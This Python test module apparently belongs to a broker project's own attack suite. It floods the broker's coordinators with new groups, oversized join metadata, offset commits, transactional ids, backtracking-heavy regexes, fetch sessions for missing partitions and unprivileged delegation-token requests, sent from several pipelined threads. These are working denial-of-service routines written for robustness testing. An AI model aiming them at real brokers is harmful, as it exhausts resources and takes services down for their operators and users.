"""Attacks on the coordinators of brokers: floods of new groups, members, offsets, transactional ids and tokens."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from itertools import count, islice, repeat
from threading import Thread
from uuid import uuid4

from quorumd.protocol.messages.consumer_group_heartbeat_request import ConsumerGroupHeartbeatRequest
from quorumd.protocol.messages.create_delegation_token_request import CreateDelegationTokenRequest
from quorumd.protocol.messages.expire_delegation_token_request import ExpireDelegationTokenRequest
from quorumd.protocol.messages.fetch_request import FetchPartition, FetchRequest, FetchTopic
from quorumd.protocol.messages.find_coordinator_request import FindCoordinatorRequest
from quorumd.protocol.messages.init_producer_id_request import InitProducerIdRequest
from quorumd.protocol.messages.join_group_request import JoinGroupRequest, JoinGroupRequestProtocol
from quorumd.protocol.messages.list_groups_request import ListGroupsRequest
from quorumd.protocol.messages.offset_commit_request import (
    OffsetCommitRequest,
    OffsetCommitRequestPartition,
    OffsetCommitRequestTopic,
)
from quorumd.protocol.wire import Message
from tests.attacks.field import TOPIC
from tests.attacks.target import Address, Peer, Target, log_in

CLIENTS = 4
PIPELINED = 50
LONGEST_SESSION_MS = 1_800_000
BEFORE_MEMBER_IDS = 3
"""A version of JoinGroup in which a member joins without an assigned member id."""
MEMBER_METADATA_BYTES = 8 * 1024 * 1024
SESSION_PARTITIONS = 20_000
REGEX_LENGTH = 4000
REFUSED_ONE_IN = 10
"""One expression in this many is too large, the others are the most expensive ones that are accepted."""

Requests = Iterator[tuple[Message, int]]
"""Requests and their versions."""


def _new_id() -> str:
    return uuid4().hex


def _joins(group: str | None, metadata: bytes, version: int) -> Requests:
    while True:
        yield (
            JoinGroupRequest(
                group or _new_id(),
                LONGEST_SESSION_MS,
                LONGEST_SESSION_MS,
                protocol_type="consumer",
                protocols=[JoinGroupRequestProtocol("range", metadata)],
            ),
            version,
        )


def _commits() -> Requests:
    partitions = [OffsetCommitRequestPartition(0, 1)]
    while True:
        topics = [OffsetCommitRequestTopic(TOPIC, partitions=partitions)]
        yield OffsetCommitRequest(_new_id(), topics=topics), 8


def join_new_groups(target: Target) -> None:
    """Join a new group with each request, without ever using the assigned member id."""
    flood(target, target.clients, lambda: _joins(None, b"", 9))


def join_one_group(target: Target) -> None:
    """Join one group with a new member per request."""
    flood(target, target.clients, lambda: _joins("crowded", b"", BEFORE_MEMBER_IDS), awaits_responses=False)


def join_with_large_metadata(target: Target) -> None:
    """Join new groups with 8 MiB of metadata per member."""
    metadata = bytes(MEMBER_METADATA_BYTES)
    flood(target, target.clients, lambda: _joins(None, metadata, BEFORE_MEMBER_IDS), awaits_responses=False)


def commit_offsets_of_new_groups(target: Target) -> None:
    """Commit an offset of a new group with each request, and list all groups meanwhile."""
    lister = Thread(
        target=flood,
        args=(target, target.clients, lambda: repeat((ListGroupsRequest(), 4))),
        kwargs={"pipelined": 1, "clients": 1},
    )
    lister.start()
    flood(target, target.clients, _commits)
    lister.join()


def find_new_coordinators(target: Target) -> None:
    """Find the coordinator of a new group with each request."""

    def requests() -> Requests:
        while True:
            yield FindCoordinatorRequest(_new_id(), 0), 3

    flood(target, target.clients, requests)


def use_new_transactional_ids(target: Target) -> None:
    """Get a producer id for a new transactional id with each request."""

    def requests() -> Requests:
        while True:
            yield InitProducerIdRequest(_new_id(), 60_000), 4

    flood(target, target.clients, requests)


def get_producer_ids(target: Target) -> None:
    """Get producer ids of idempotent producers."""
    flood(target, target.clients, lambda: repeat((InitProducerIdRequest(None, 60_000), 4)))


def subscribe_to_regexes(target: Target) -> None:
    """Join new consumer groups with regular expressions that take long to match, and with those that RE2 expands."""
    unicode = r"\pL" * (REGEX_LENGTH // 3)

    def requests() -> Requests:
        for number in count():
            request = ConsumerGroupHeartbeatRequest(_new_id(), _new_id(), 0, rebalance_timeout_ms=60_000)
            costly = f"(a*)*(a|b|{number})*(.*)*x{{1,600}}"
            request.subscribed_topic_regex = f"{unicode}{number}" if number % REFUSED_ONE_IN == 0 else costly
            request.topic_partitions = []
            yield request, 1

    flood(target, target.clients, requests)


def fetch_missing_partitions(target: Target) -> None:
    """Begin fetch sessions for partitions that do not exist."""

    def requests() -> Requests:
        partitions = [FetchPartition(number) for number in range(SESSION_PARTITIONS)]
        while True:
            request = FetchRequest(max_wait_ms=0, max_bytes=1 << 20, session_epoch=0)
            request.topics = [FetchTopic(_new_id(), partitions=partitions)]
            yield request, 12

    flood(target, target.clients, requests, pipelined=1)


def create_tokens(target: Target) -> None:
    """Request delegation tokens as a client without any rights, and expire tokens that do not exist."""

    def requests() -> Requests:
        while True:
            for _ in range(PIPELINED - 1):
                yield CreateDelegationTokenRequest(), 3
            yield ExpireDelegationTokenRequest(b"unknown", -1), 2

    flood(target, target.sasl, requests, login=True)


def flood(
    target: Target,
    addresses: list[Address],
    requests: Callable[[], Requests],
    *,
    clients: int = CLIENTS,
    pipelined: int = PIPELINED,
    awaits_responses: bool = True,
    login: bool = False,
) -> None:
    """Send requests from several clients, `pipelined` at a time, and read the responses if `awaits_responses`."""

    def send(number: int) -> None:
        source = requests()
        for _ in target.deadline():
            with suppress(OSError), closing(Peer(addresses[number % len(addresses)])) as peer:
                if login:
                    log_in(peer)
                for _ in target.deadline():
                    peer.send(*(peer.frame(*each) for each in islice(source, pipelined)))
                    for _ in range(pipelined if awaits_responses else 0):
                        peer.read_frame()

    threads = [Thread(target=send, args=(number,), daemon=True) for number in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
